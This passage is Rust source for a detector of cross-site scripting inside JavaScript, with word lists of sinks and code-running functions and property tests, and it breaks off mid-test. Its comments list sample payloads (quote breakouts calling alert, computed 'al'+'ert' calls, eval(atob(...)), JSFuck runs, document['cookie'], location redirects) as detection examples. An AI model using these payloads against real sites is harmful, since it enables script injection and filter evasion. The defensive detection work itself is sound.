//! Cross-site scripting that lands inside JavaScript (signature 941104):
//! a value is an injection when, read as JavaScript from one of the places
//! a value can land in a script, it makes code that calls something or
//! assigns to a navigation or markup sink.
//!
//! The places read:
//!
//! - inside a string, `'…'`, `"…"` or `` `…` ``: the value's first matching
//!   quote (or `${` in a template) ends the string, whether or not a
//!   backslash stands before it (an application that escapes the quote but
//!   not the backslash turns `\'` into `\\'`). What follows must continue
//!   the expression the string was in: an operator, `;`, `,` or a closing
//!   bracket. A word right after the quote (`it's`, `John's`, `5' 10"`) is
//!   a syntax error, so prose is not code. After the breakout, any call
//!   (`';alert(1)//`, `'-confirm`1`-'`, `");x['al'+'ert'](1)//`) or an
//!   assignment to a sink (`';location='//x'//`) is an injection;
//! - as an expression (`var x = VALUE;`): there, text such as `f(x)` or
//!   `sin(x)` is valid code too, so only calls that run code or open a
//!   dialog count: a known function (`eval`, `settimeout`, `function`,
//!   `atob`, `fromcharcode`, `import`…), a member reached through
//!   `constructor`, a computed member (`window['al'+'ert'](1)`,
//!   `top[/al/.source+/ert/.source](1)`), and assignments to
//!   `location`-like members of an object (`document.location=`); also
//!   what calls without parentheses or reaches the page without a call:
//!   a computed member of the page's objects named by a string or an
//!   expression (`document['cookie']`, `top[/**/'al'+'ert']`, CRS's
//!   941370), a dialog or `eval` passed to a method as a callback
//!   (`[1].map(alert)`), a conversion hook assigned one
//!   (`valueof=alert;window+''`, 941400);
//! - each value of a URL's query (`/p?q=VALUE`, as a `Referer` carries
//!   it), as an expression.
//!
//! The reading stops at the first syntax error (two words in a row, an
//! operator where a value is due...): what follows cannot run. Runs of
//! `JSFuck` (`[]`, `!`, `+`, `(`, `)` only) are injections wherever they
//! are (a blank may stand for `+`, as a form decodes it). The value is
//! the decoded, lower-case text patterns see (JavaScript
//! escapes such as `\u0061` are decoded before).
//!
//! ```text
//! ';alert(1)//                       a breakout, then a call
//! "-top['al'+'ert'](1)-"             a breakout, then a computed call
//! eval(atob('YWxlcnQoMSk='))         a known function, as an expression
//! it's john's (really)               prose: a word after the quote
//! ```

use super::engine::holds_any;

/// Whether `text` holds what any script needs here: a call `(`, a tagged
/// template `` ` ``, an assignment `=` or a computed member `[`. Without
/// any, [`is_js_injection`] is false.
pub(crate) fn could_be_js(text: &str) -> bool {
    let bytes = text.as_bytes();
    if bytes.len() < VECTOR_SEARCH_FROM {
        // A short value: one table look per byte costs less than setting
        // up two vectorised searches.
        return holds_any(bytes, &SCRIPT_TABLE);
    }
    memchr::memchr3(b'(', b'`', b'=', bytes).is_some() || memchr::memchr(b'[', bytes).is_some()
}

/// From how many bytes [`could_be_js`] searches with `memchr`.
const VECTOR_SEARCH_FROM: usize = 64;

/// The bytes [`could_be_js`] looks for, as a table indexed by byte.
pub(crate) const SCRIPT_TABLE: [bool; 256] = {
    let mut table = [false; 256];
    table[b'(' as usize] = true;
    table[b'`' as usize] = true;
    table[b'=' as usize] = true;
    table[b'[' as usize] = true;
    table
};

/// The gate as two vectorised searches, whatever the length: the tests'
/// reference.
#[cfg(test)]
fn could_be_js_by_searches(text: &str) -> bool {
    let bytes = text.as_bytes();
    memchr::memchr3(b'(', b'`', b'=', bytes).is_some() || memchr::memchr(b'[', bytes).is_some()
}

/// Whether `text` (decoded, lower case) makes JavaScript that runs.
pub(crate) fn is_js_injection(text: &str) -> bool {
    let bytes = text.as_bytes();
    let held = Held::of(text);
    if !held.any(Held::SCRIPT) {
        return false;
    }
    if held.any(Held::BRACKET) && has_jsfuck_run(bytes) {
        return true;
    }
    if read(bytes, 0, Context::Expression) {
        return true;
    }
    for (quote, needs) in [
        (b'\'', Held::SINGLE_QUOTE),
        (b'"', Held::DOUBLE_QUOTE),
        (b'`', Held::BACKTICK | Held::DOLLAR),
    ] {
        if !held.any(needs) {
            continue;
        }
        let end = if quote == b'`' {
            first_template_end(bytes)
        } else {
            memchr::memchr(quote, bytes).map(|at| (at + 1, false))
        };
        if let Some((after, in_substitution)) = end {
            let context = if in_substitution {
                Context::Substitution
            } else {
                Context::AfterString
            };
            if read(bytes, after, context) {
                return true;
            }
        }
    }
    // A query's values follow a `?` and each its `=`.
    held.holds_query() && url_query_values(bytes).any(|at| read(bytes, at, Context::Expression))
}

/// Which bytes [`is_js_injection`] looks for a value holds, as bits: a
/// short value's found in one pass through [`HELD_TABLE`]; a long one's
/// gate searched, the rest taken as held (each is searched where it is
/// needed).
#[derive(Clone, Copy)]
struct Held(u8);

impl Held {
    /// A byte of the gate ([`could_be_js`]): `(`, `` ` ``, `=`, `[`.
    const SCRIPT: u8 = 1;
    const BRACKET: u8 = 2;
    const SINGLE_QUOTE: u8 = 4;
    const DOUBLE_QUOTE: u8 = 8;
    const BACKTICK: u8 = 16;
    const DOLLAR: u8 = 32;
    /// `?`, which opens a URL's query.
    const QUERY_MARK: u8 = 64;
    const EQUALS: u8 = 128;

    /// The bytes of `text`: one pass below [`HELD_IN_ONE_PASS`] bytes.
    fn of(text: &str) -> Self {
        let bytes = text.as_bytes();
        if bytes.len() >= HELD_IN_ONE_PASS {
            return Self(if could_be_js(text) { u8::MAX } else { 0 });
        }
        Self(
            bytes
                .iter()
                .fold(0, |held, &b| held | HELD_TABLE[usize::from(b)]),
        )
    }

    /// Whether one of `bits` is held.
    fn any(self, bits: u8) -> bool {
        self.0 & bits != 0
    }

    /// Whether a `?` and an `=` are held, as a URL's query values need.
    fn holds_query(self) -> bool {
        let both = Self::QUERY_MARK | Self::EQUALS;
        self.0 & both == both
    }
}

/// Below how many bytes [`Held::of`] reads a value in one pass (above,
/// vectorised searches cost less).
const HELD_IN_ONE_PASS: usize = 128;

/// The bits of [`Held`] each byte sets.
const HELD_TABLE: [u8; 256] = {
    let mut table = [0u8; 256];
    table[b'(' as usize] = Held::SCRIPT;
    table[b'`' as usize] = Held::SCRIPT | Held::BACKTICK;
    table[b'=' as usize] = Held::SCRIPT | Held::EQUALS;
    table[b'[' as usize] = Held::SCRIPT | Held::BRACKET;
    table[b'\'' as usize] = Held::SINGLE_QUOTE;
    table[b'"' as usize] = Held::DOUBLE_QUOTE;
    table[b'$' as usize] = Held::DOLLAR;
    table[b'?' as usize] = Held::QUERY_MARK;
    table
};

/// Most query values of a URL read as expressions.
const MAX_QUERY_VALUES: usize = 8;

/// Where each value of a URL's query starts (after its `=`), when `bytes`
/// is a URL (`scheme://...?` or `/...?`, as a `Referer` is): a page that
/// shows the URL, or takes a value from it into a script, runs what is
/// there, not what the URL starts with.
fn url_query_values(bytes: &[u8]) -> impl Iterator<Item = usize> + '_ {
    let head = &bytes[..bytes.len().min(16)];
    let is_url = bytes.starts_with(b"/")
        || memchr::memchr_iter(b':', head).any(|at| head[at + 1..].starts_with(b"//"));
    let query = if is_url {
        memchr::memchr(b'?', bytes)
    } else {
        None
    };
    let start = query.unwrap_or(bytes.len());
    memchr::memchr_iter(b'=', &bytes[start..])
        .take(MAX_QUERY_VALUES)
        .map(move |at| start + at + 1)
}

/// Shortest run of `JSFuck` characters counted as code.
const JSFUCK_RUN: usize = 12;

/// Whether `bytes` holds a run of at least [`JSFUCK_RUN`] characters among
/// `[]()!+` (blanks allowed inside) that uses `[`, `]`, `!` and `+`, or
/// blanks inside the run in place of `+` together with parentheses (a
/// form's `+` reaches the application as a space, and the run is still
/// the same code where it was written).
fn has_jsfuck_run(bytes: &[u8]) -> bool {
    // A run uses `[`, which most values do not hold: one vector search
    // rules them out.
    if memchr::memchr(b'[', bytes).is_none() {
        return false;
    }
    let mut run = 0;
    let mut seen = 0u8;
    for &b in bytes {
        let bit = match b {
            b'[' => 1,
            b']' => 2,
            b'!' => 4,
            b'+' => 8,
            b'(' | b')' => 16,
            b' ' | b'\t' | b'\n' | b'\r' => {
                // A blank counts only inside a run, in place of a `+`.
                if run > 0 {
                    seen |= 32;
                }
                0
            }
            _ => {
                run = 0;
                seen = 0;
                continue;
            }
        };
        if bit != 0 {
            run += 1;
            seen |= bit;
        }
        // `[`, `]` and `!`, then `+`, or blanks in its place with the
        // parentheses every such program groups with (a shout such as
        // `[!!!!!!!!!!]` has neither).
        if run >= JSFUCK_RUN && seen & 7 == 7 && (seen & 8 != 0 || seen & (32 | 16) == 48) {
            return true;
        }
    }
    false
}

/// Where a template string read from the value's start ends: just after
/// its first `` ` `` (false), or inside its first `${` (true).
fn first_template_end(bytes: &[u8]) -> Option<(usize, bool)> {
    let mut from = 0;
    while let Some(offset) = memchr::memchr2(b'`', b'$', &bytes[from..]) {
        let i = from + offset;
        if bytes[i] == b'`' {
            return Some((i + 1, false));
        }
        if bytes.get(i + 1) == Some(&b'{') {
            return Some((i + 2, true));
        }
        from = i + 1;
    }
    None
}

/// Where the reading starts.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Context {
    /// The value is an expression of its own: only calls that run code
    /// count.
    Expression,
    /// Just after a string the value closed: an operator must follow.
    AfterString,
    /// Inside a template's `${`: an expression, after a breakout.
    Substitution,
}

/// What the operand just read can be, if called.
// Independent facts about one operand, each read by a different rule.
#[allow(clippy::struct_excessive_bools)]
#[derive(Clone, Copy, Default)]
struct Callee {
    /// It can be called at all: a name, a member, a call's result, a
    /// parenthesised expression (not a number or a string literal).
    callable: bool,
    /// A call of it runs code or opens a dialog, even outside a breakout.
    runs_code: bool,
    /// An assignment to it navigates or writes markup, even outside a
    /// breakout (a member: `document.location`, `x.innerhtml`).
    member_sink: bool,
    /// An assignment to it navigates or writes markup after a breakout.
    sink: bool,
    /// It is a chain rooted at a name (`a`, `a.b`, `a['b']`).
    named: bool,
    /// It is a chain rooted at an object of the page (`document`...).
    page_object: bool,
    /// It ends in `.call` or `.apply`: as a template's tag, it calls a
    /// function without parentheses (`[].sort.call` and a template).
    invoker: bool,
    /// It is a method, reached through `.name`: its call's arguments may
    /// be callbacks (`[1].map(alert)` calls `alert`).
    method: bool,
    /// It is a conversion hook (`valueof`, `tostring`): assigned a
    /// function, the page calls it when the object is converted
    /// (`valueof=alert;window+''`).
    hook: bool,
}

/// Functions that, passed as a callback, run code or open a dialog.
const CALLBACKS: &[&str] = &["alert", "prompt", "confirm", "print", "eval"];

/// Conversion hooks: assigned a function, called without parentheses.
const HOOKS: &[&str] = &["valueof", "tostring"];

/// Functions whose call runs code, decodes it, or opens a dialog.
const RUNS_CODE: &[&str] = &[
    "alert",
    "prompt",
    "confirm",
    "eval",
    "settimeout",
    "setinterval",
    "function",
    "execscript",
    "atob",
    "fromcharcode",
    "import",
    "importscripts",
    "write",
    "writeln",
    "fetch",
    "constructor",
    "globaleval",
    "insertadjacenthtml",
];

/// Objects of the page: a call or an assignment through a member of one
/// (`document.queryselector(`, `window.name=`) works on the page.
const PAGE_OBJECTS: &[&str] = &[
    "document",
    "window",
    "top",
    "self",
    "parent",
    "frames",
    "opener",
    "globalthis",
    "location",
    // At the top level of a script, `this` is the window.
    "this",
];

/// The window's event handlers: assigned by a bare name
/// (`onerror=alert;throw 1`), they call a function without parentheses.
const PAGE_HANDLERS: &[&str] = &[
    "onerror",
    "onload",
    "onunload",
    "onbeforeunload",
    "onhashchange",
    "onpopstate",
    "onpageshow",
    "onmessage",
    "onfocus",
    "onblur",
    "onresize",
    "onscroll",
    "onclick",
    "onkeydown",
    "onmouseover",
];

/// Names whose assignment navigates, writes markup or sets a handler.
const SINKS: &[&str] = &[
    "location",
    "href",
    "innerhtml",
    "outerhtml",
    "srcdoc",
    "src",
    "action",
    "onerror",
    "onload",
    "onmessage",
];

/// Words that start a value or statement and leave a value due.
const PREFIX_WORDS: &[&str] = &[
    "typeof", "void", "delete", "new", "throw", "return", "await", "yield", "case", "else", "do",
    "var", "let", "const", "if", "while", "for", "with", "switch", "try", "finally",
];

/// Words that join two values, like a binary operator.
const INFIX_WORDS: &[&str] = &["in", "instanceof", "of"];

/// Most tokens read from one place: enough for any injection, a bound on
/// the work for long text.
const MAX_TOKENS: usize = 256;

/// Deepest bracket nesting read.
const MAX_DEPTH: usize = 16;

/// An open bracket: which, and the operand that stood before it.
#[derive(Clone, Copy, Default)]
struct Open {
    bracket: u8,
    /// The operand before a call's `(` or a computed member's `[`
    /// (already marked as such); `None` for a group, array or block.
    before: Option<Callee>,
}

/// Reads `bytes` from `start` as JavaScript in `context`; true at the
/// first call or sink assignment that counts there.
#[allow(clippy::too_many_lines)] // one token per arm, read in one place
fn read(bytes: &[u8], start: usize, context: Context) -> bool {
    let breakout = context != Context::Expression;
    let mut i = start;
    // True when a value is due (an operand), false when an operator is.
    let mut operand_due = context != Context::AfterString;
    let mut callee = Callee::default();
    // After `.`, a member name is due.
    let mut member_due = false;
    let mut stack = [Open::default(); MAX_DEPTH];
    let mut depth: usize = 0;
    // After a bracket closing what stood around the value, a statement or
    // an operator may follow: `'))==f(1)` as well as `'}f(1)`.
    let mut either = false;
    // After `valueof=` or `tostring=`: a function that runs code is due.
    let mut hook_assigned = false;
    for _ in 0..MAX_TOKENS {
        let operator_allowed = !operand_due || std::mem::take(&mut either);
        let hook_due = std::mem::take(&mut hook_assigned);
        i = skip_blanks_and_comments(bytes, i);
        let Some(&b) = bytes.get(i) else {
            return false;
        };
        if is_word_start(b) {
            let end = word_end(bytes, i);
            let word = &bytes[i..end];
            i = end;
            if member_due {
                member_due = false;
                callee.runs_code |= callee.page_object || is_one_of(word, RUNS_CODE);
                callee.sink = callee.page_object || is_one_of(word, SINKS) || is_handler(word);
                callee.member_sink = callee.sink;
                callee.invoker = word == b"call" || word == b"apply";
                callee.method = true;
                callee.hook = is_one_of(word, HOOKS);
                continue;
            }
            if operand_due {
                if is_one_of(word, PREFIX_WORDS) {
                    continue;
                }
                if hook_due && (is_one_of(word, RUNS_CODE) || is_one_of(word, CALLBACKS)) {
                    return true;
                }
                if is_one_of(word, CALLBACKS)
                    && depth > 0
                    && stack[depth - 1].bracket == b'('
                    && stack[depth - 1].before.is_some_and(|c| c.method)
                    && matches!(
                        bytes.get(skip_blanks_and_comments(bytes, i)),
                        Some(b')' | b',')
                    )
                {
                    // A dialog or `eval` passed to a method as a callback.
                    return true;
                }
                callee = Callee {
                    callable: true,
                    runs_code: is_one_of(word, RUNS_CODE),
                    sink: is_one_of(word, SINKS) || is_handler(word),
                    named: true,
                    page_object: is_one_of(word, PAGE_OBJECTS),
                    // The page's own handlers, set by a bare name.
                    member_sink: is_one_of(word, PAGE_HANDLERS),
                    invoker: false,
                    method: false,
                    hook: is_one_of(word, HOOKS),
                };
                operand_due = false;
            } else if is_one_of(word, INFIX_WORDS) {
                operand_due = true;
            } else {
                return false;
            }
            continue;
        }
        if member_due {
            return false;
        }
        if b.is_ascii_digit() {
            if !operand_due {
                return false;
            }
            i = word_end(bytes, i);
            callee = Callee::default();
            operand_due = false;
            continue;
        }
        match b {
            b'\'' | b'"' => {
                if !operand_due {
                    return false;
                }
                i = string_end(bytes, i + 1, b);
                callee = Callee::default();
                operand_due = false;
            }
            b'`' => {
                // After an operand, a tagged template: a call.
                if !operand_due && (counts(callee, breakout) || callee.invoker) {
                    return true;
                }
                i = string_end(bytes, i + 1, b'`');
                callee = Callee::default();
                operand_due = false;
            }
            b'/' if operand_due => {
                // A regular expression literal.
                i = regex_end(bytes, i + 1);
                callee = Callee::default();
                operand_due = false;
            }
            b'(' | b'[' | b'{' => {
                i += 1;
                if depth == MAX_DEPTH {
                    return false;
                }
                let before = if operand_due || b == b'{' {
                    None
                } else if b == b'(' {
                    if counts(callee, breakout) {
                        return true;
                    }
                    Some(callee)
                } else {
                    // A computed member of the page's objects, named by
                    // a string or an expression (`document['cookie']`,
                    // `top[/**/'al'+'ert']`), reaches the page.
                    if callee.page_object
                        && matches!(
                            bytes.get(skip_blanks_and_comments(bytes, i)),
                            Some(&c) if c == b'\'' || c == b'"' || c == b'`' || c == b'/'
                                || is_word_start(c)
                        )
                    {
                        return true;
                    }
                    // A computed member: whatever it names can run code.
                    Some(Callee {
                        runs_code: callee.runs_code || callee.named,
                        sink: callee.named,
                        member_sink: callee.named,
                        ..callee
                    })
                };
                stack[depth] = Open { bracket: b, before };
                depth += 1;
                operand_due = true;
            }
            b')' | b']' | b'}' => {
                i += 1;
                if depth == 0 {
                    // Closes what stood around the value: a statement
                    // may follow (`if ('x') alert(1)`), or an operator.
                    if !breakout {
                        return false;
                    }
                    operand_due = b != b']';
                    either = operand_due;
                    callee = Callee::default();
                    continue;
                }
                depth -= 1;
                let open = stack[depth];
                callee = match (open.bracket, open.before) {
                    // A computed member keeps what its chain was.
                    (b'[', Some(before)) => before,
                    // A call's result can be called again.
                    (b'(', Some(before)) => Callee {
                        callable: true,
                        runs_code: before.runs_code,
                        ..Callee::default()
                    },
                    // A group, or an array literal whose members can be
                    // called.
                    (b'(' | b'[', None) => Callee {
                        callable: true,
                        ..Callee::default()
                    },
                    _ => Callee::default(),
                };
                operand_due = b == b'}';
            }
            b'.' => {
                i += 1;
                // After a value, a member; before one, `...` or `.5`.
                member_due = !operand_due;
            }
            b';' | b',' => {
                i += 1;
                operand_due = true;
            }
            b'=' => {
                let run = punctuator_run(bytes, i);
                i += run;
                if !operator_allowed {
                    return false;
                }
                if run == 1 && assigns_sink(callee, breakout) {
                    return true;
                }
                hook_assigned = run == 1 && callee.hook;
                operand_due = true;
            }
            b'+' | b'-' | b'!' | b'~' => {
                let run = punctuator_run(bytes, i);
                i += run;
                let postfix = run == 2 && bytes[i - 2] == b && bytes[i - 1] == b;
                if !operand_due && (b == b'+' || b == b'-') && postfix {
                    continue;
                }
                if !operand_due && (b == b'!' || b == b'~') && run == 1 {
                    return false;
                }
                operand_due = true;
            }
            b'*' | b'/' | b'%' | b'<' | b'>' | b'&' | b'|' | b'^' | b'?' | b':' => {
                if !operator_allowed && b != b':' {
                    return false;
                }
                i += punctuator_run(bytes, i);
                operand_due = true;
            }
            _ => return false,
        }
    }
    false
}

/// Whether `word` is one of `words`, one of the lists of [`LISTS`]: a
/// word whose first letter and length no listed word has is none, without
/// a look at the list.
fn is_one_of(word: &[u8], words: &[&str]) -> bool {
    debug_assert!(LISTS.contains(&words), "a list the gate does not know");
    may_be_listed(word) && words.iter().any(|w| w.as_bytes() == word)
}

/// The lists of words [`read`] looks words up in.
const LISTS: [&[&str]; 8] = [
    CALLBACKS,
    HOOKS,
    RUNS_CODE,
    PAGE_OBJECTS,
    PAGE_HANDLERS,
    SINKS,
    PREFIX_WORDS,
    INFIX_WORDS,
];

/// The lengths of the words of [`LISTS`] by their first letter: bit
/// `len` of entry `first - b'a'`. Every listed word is lower-case ASCII
/// and shorter than 32 bytes (else the build fails here).
const LISTED_LENGTHS: [u32; 26] = {
    let mut lengths = [0u32; 26];
    let mut l = 0;
    while l < LISTS.len() {
        let mut w = 0;
        while w < LISTS[l].len() {
            let word = LISTS[l][w].as_bytes();
            assert!(word[0].is_ascii_lowercase() && word.len() < 32);
            lengths[(word[0] - b'a') as usize] |= 1 << word.len();
            w += 1;
        }
        l += 1;
    }
    lengths
};

/// Whether a word of [`LISTS`] has `word`'s first letter and length.
fn may_be_listed(word: &[u8]) -> bool {
    match word.first() {
        Some(&first @ b'a'..=b'z') if word.len() < 32 => {
            LISTED_LENGTHS[usize::from(first - b'a')] & (1 << word.len()) != 0
        }
        _ => false,
    }
}

/// Whether a call of `callee` counts as an injection.
fn counts(callee: Callee, breakout: bool) -> bool {
    if breakout {
        callee.callable
    } else {
        callee.runs_code
    }
}

/// Whether an assignment to `callee` counts as an injection.
fn assigns_sink(callee: Callee, breakout: bool) -> bool {
    if breakout {
        callee.sink
    } else {
        callee.member_sink
    }
}

/// Whether `word` names an event handler (`on` and a letter run).
fn is_handler(word: &[u8]) -> bool {
    word.len() > 4 && word.starts_with(b"on") && word[2..].iter().all(u8::is_ascii_lowercase)
}

/// Whether `b` can start a name (non-ASCII letters included).
fn is_word_start(b: u8) -> bool {
    b.is_ascii_alphabetic() || b == b'_' || b == b'$' || b == b'\\' || b >= 0x80
}

/// The end of a name or number starting at `i`.
fn word_end(bytes: &[u8], i: usize) -> usize {
    bytes[i.min(bytes.len())..]
        .iter()
        .position(|&b| !WORD_BYTES[usize::from(b)])
        .map_or(bytes.len().max(i), |n| i + n)
}

/// Whether a byte continues a name or number: ASCII letters and digits,
/// `_`, `$`, `\\` and every byte that is not ASCII.
const WORD_BYTES: [bool; 256] = {
    let mut table = [false; 256];
    let mut b = 0;
    while b < 256 {
        let byte = b as u8;
        table[b] = byte.is_ascii_alphanumeric()
            || byte == b'_'
            || byte == b'$'
            || byte == b'\\'
            || byte >= 0x80;
        b += 1;
    }
    table
};

/// The length of a run of operator characters starting at `i` (at most
/// 4; a `/` only first, so that a comment after an operator stays one).
fn punctuator_run(bytes: &[u8], i: usize) -> usize {
    1 + bytes[i + 1..]
        .iter()
        .take(3)
        .take_while(|&&b| {
            matches!(
                b,
                b'=' | b'+'
                    | b'-'
                    | b'!'
                    | b'~'
                    | b'*'
                    | b'%'
                    | b'<'
                    | b'>'
                    | b'&'
                    | b'|'
                    | b'^'
                    | b'?'
            )
        })
        .count()
}

/// Just after the string or template closing at `quote`, from `i` inside
/// it (backslash escapes skipped); the text's end when it does not close.
fn string_end(bytes: &[u8], mut i: usize, quote: u8) -> usize {
    while let Some(&b) = bytes.get(i) {
        if b == b'\\' {
            i += 2;
        } else if b == quote {
            return i + 1;
        } else {
            i += 1;
        }
    }
    bytes.len()
}

/// Just after a regular expression literal from `i` inside it (classes
/// and escapes skipped, flags included).
fn regex_end(bytes: &[u8], mut i: usize) -> usize {
    let mut in_class = false;
    while let Some(&b) = bytes.get(i) {
        match b {
            b'\\' => i += 1,
            b'[' => in_class = true,
            b']' => in_class = false,
            b'/' if !in_class => return word_end(bytes, i + 1),
            b'\n' => return i,
            _ => {}
        }
        i += 1;
    }
    bytes.len()
}

/// Past blanks and comments (`//`, `/* */`, `<!--`) from `i`.
#[inline]
fn skip_blanks_and_comments(bytes: &[u8], mut i: usize) -> usize {
    while bytes.get(i).is_some_and(u8::is_ascii_whitespace) {
        i += 1;
    }
    // Every comment opens with `/` or `<`: most tokens are read without
    // the look for one (kept out of line).
    if matches!(bytes.get(i), Some(b'/' | b'<')) {
        skip_comments(bytes, i)
    } else {
        i
    }
}

/// [`skip_blanks_and_comments`] from a `/` or `<` at `i`: the loop as first
/// written, right from any `i` (the tests' reference for the gate before
/// it).
#[inline(never)]
fn skip_comments(bytes: &[u8], mut i: usize) -> usize {
    loop {
        while bytes.get(i).is_some_and(u8::is_ascii_whitespace) {
            i += 1;
        }
        let rest = &bytes[i.min(bytes.len())..];
        if rest.starts_with(b"//") || rest.starts_with(b"<!--") {
            return memchr::memchr(b'\n', rest).map_or(bytes.len(), |n| i + n + 1);
        }
        if rest.starts_with(b"/*") {
            match memchr::memmem::find(&rest[2..], b"*/") {
                Some(n) => i += n + 4,
                None => return bytes.len(),
            }
            continue;
        }
        return i;
    }
}

/// [`is_js_injection`] as it was first written (every place read, the
/// URL test by a substring search): the tests' reference.
#[cfg(test)]
fn is_js_injection_every_place(text: &str) -> bool {
    let bytes = text.as_bytes();
    if !could_be_js(text) {
        return false;
    }
    if has_jsfuck_run(bytes) || read(bytes, 0, Context::Expression) {
        return true;
    }
    for quote in [b'\'', b'"', b'`'] {
        let end = if quote == b'`' {
            first_template_end(bytes)
        } else {
            memchr::memchr(quote, bytes).map(|at| (at + 1, false))
        };
        if let Some((after, in_substitution)) = end {
            let context = if in_substitution {
                Context::Substitution
            } else {
                Context::AfterString
            };
            if read(bytes, after, context) {
                return true;
            }
        }
    }
    let is_url = bytes.starts_with(b"/")
        || memchr::memmem::find(&bytes[..bytes.len().min(16)], b"://").is_some();
    let start = if is_url {
        memchr::memchr(b'?', bytes).unwrap_or(bytes.len())
    } else {
        bytes.len()
    };
    memchr::memchr_iter(b'=', &bytes[start..])
        .take(MAX_QUERY_VALUES)
        .any(|at| read(bytes, start + at + 1, Context::Expression))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::sql_injection::generated;

    use super::{could_be_js, could_be_js_by_searches, is_js_injection, read, Context};

    /// Every text of up to six bytes of blanks and comment openers, read
    /// from every place: the early return decides as the full look.
    #[test]
    fn blanks_and_comments_are_skipped_as_before_on_every_short_text() {
        let alphabet = b" \n/<!-*a";
        let mut texts: Vec<Vec<u8>> = vec![Vec::new()];
        let mut last: Vec<Vec<u8>> = vec![Vec::new()];
        for _ in 0..6 {
            last = last
                .iter()
                .flat_map(|t| alphabet.iter().map(move |&b| [t.as_slice(), &[b]].concat()))
                .collect();
            texts.extend(last.iter().cloned());
        }
        for text in &texts {
            for at in 0..=text.len() + 1 {
                assert_eq!(
                    super::skip_blanks_and_comments(text, at),
                    super::skip_comments(text, at),
                    "{text:?} from {at}"
                );
            }
        }
    }

    /// An operator's run holds the bytes it held when they were looked
    /// up in a byte string, byte by byte.
    #[test]
    fn punctuator_runs_hold_the_operator_bytes() {
        for b in 0..=255u8 {
            let text = [b'=', b, b, b, b];
            let expected = if b"=+-!~*%<>&|^?".contains(&b) { 4 } else { 1 };
            assert_eq!(super::punctuator_run(&text, 0), expected, "{b}");
        }
    }

    /// The table of name bytes holds what the comparisons it replaces
    /// hold, byte by byte.
    #[test]
    fn word_bytes_are_letters_digits_underscore_dollar_backslash_and_wide() {
        for b in 0..=255u8 {
            let expected =
                b.is_ascii_alphanumeric() || b == b'_' || b == b'$' || b == b'\\' || b >= 0x80;
            assert_eq!(super::WORD_BYTES[usize::from(b)], expected, "{b}");
            let text = [b'a', b, b' '];
            assert_eq!(super::word_end(&text, 0), if expected { 2 } else { 1 });
            assert_eq!(super::word_end(&text, 3), 3);
            assert_eq!(super::word_end(&text, 5), 5);
        }
    }

    /// The detector decides as when it read every place, on the
    /// generators' payloads (every family) alone and in prose and URLs.
    #[test]
    fn the_places_skipped_decide_as_every_place_on_generated_attacks() {
        let mut detected = 0;
        for attack in generated::attacks(23, 150) {
            let payload = attack.payload.to_lowercase();
            for text in [
                payload.clone(),
                format!("https://x.example/p?q={payload}&r=1"),
                format!("/p?a=1&q={payload}"),
                format!("mozilla/5.0 (x11; {payload}) gecko"),
            ] {
                let every = super::is_js_injection_every_place(&text);
                assert_eq!(is_js_injection(&text), every, "{text:?}");
                detected += usize::from(every);
            }
        }
        assert!(detected > 100, "{detected}");
    }

    /// Every listed word passes the gate, and the gate decides as the
    /// lists on words near theirs (a letter more or less, another case,
    /// another first letter).
    #[test]
    fn the_listed_lengths_gate_decides_as_the_lists() {
        let mut words: Vec<Vec<u8>> = Vec::new();
        for word in super::LISTS.iter().flat_map(|list| list.iter()) {
            let bytes = word.as_bytes();
            words.push(bytes.to_vec());
            words.push([bytes, b"x"].concat());
            words.push(bytes[..bytes.len() - 1].to_vec());
            words.push(bytes.to_ascii_uppercase());
            for first in 0..=255u8 {
                words.push([&[first], &bytes[1..]].concat());
            }
        }
        let mut passed = 0;
        for word in &words {
            for list in super::LISTS {
                let scanned = list.iter().any(|w| w.as_bytes() == word.as_slice());
                assert_eq!(super::is_one_of(word, list), scanned, "{word:?}");
            }
            passed += usize::from(super::may_be_listed(word));
        }
        assert!(passed < words.len() / 4, "{passed} of {}", words.len());
    }

    /// Pieces of script, all without `(`, `` ` `` and `=`.
    const NO_CALL: &[&str] = &[
        " ",
        "'",
        "\"",
        ";",
        ",",
        ".",
        "]",
        "!",
        "+",
        "-",
        "}",
        "{",
        ":",
        "?",
        "/",
        "\\",
        "${",
        "x",
        "1",
        "alert",
        "eval",
        "settimeout",
        "import",
        "new",
        "top",
        "window",
        "document",
        "location",
        "constructor",
        "fromcharcode",
        "atob",
        "function",
        "/al/.source",
        "'al'",
        "\n",
        "//",
        "/*",
        "*/",
    ];

    /// The generators' payloads (every family), lower case, alone and
    /// after prose long enough for the vectorised searches.
    #[test]
    fn the_table_gate_decides_as_the_searches_on_generated_attacks() {
        let prose = "please select the plan you'd recommend for a small team, thanks ";
        for attack in generated::attacks(21, 150) {
            let payload = attack.payload.to_lowercase();
            for text in [format!("{prose}{payload}"), payload] {
                assert_eq!(
                    could_be_js(&text),
                    could_be_js_by_searches(&text),
                    "{text:?}"
                );
            }
        }
    }

    /// Pieces of script and of prose: quotes, template openers, calls,
    /// URLs, query values, comments.
    const SCRIPT_PIECES: &[&str] = &[
        "'",
        "\"",
        "`",
        "${",
        "$",
        "alert",
        "(1)",
        ")",
        "=",
        "?",
        "&",
        "://",
        "/",
        "https",
        "x.example",
        "location",
        "eval",
        ";",
        "//",
        "/*",
        "*/",
        "<!--",
        " ",
        "it",
        "[",
        "]",
        "+",
        "-",
        "1",
        ".",
        "document",
        "cookie",
        "\\",
    ];

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(4096))]

        /// The detector decides as when it read every place, on texts of
        /// script and prose pieces (short ones read in one pass, long
        /// ones searched).
        #[test]
        fn the_places_skipped_decide_as_every_place(
            pieces in prop::collection::vec(prop::sample::select(SCRIPT_PIECES), 0..40),
        ) {
            let text = pieces.concat();
            prop_assert_eq!(
                is_js_injection(&text),
                super::is_js_injection_every_place(&text),
                "{:?}", text
            );
        }
    }

    proptest! {
        /// The gate reads short values with a table and long ones with
        /// `memchr`: the same answer either way.
        #[test]
        fn the_table_gate_decides_as_the_searches(
            text in "[a-z0-9 .,;:'\"/<>!+\\-]{0,80}([(`=\\[][a-z0-9 .,;:'\"/<>!+-]{0,80})?"
        ) {
            prop_assert_eq!(could_be_js(&text), could_be_js_by_searches(&text), "{:?}", text);
        }
    }

    proptest! {
        /// The gate is what the reading needs: without a call, a tagged
        /// template, an assignment or a computed member, no place in a
        /// script runs code. (A `JSFuck` run holds `[`, so it passes the
        /// gate.)
        #[test]
        fn text_without_call_template_assignment_or_member_never_reads_as_js(
            pieces in prop::collection::vec(prop::sample::select(NO_CALL), 0..12)
        ) {
            let text = pieces.concat();
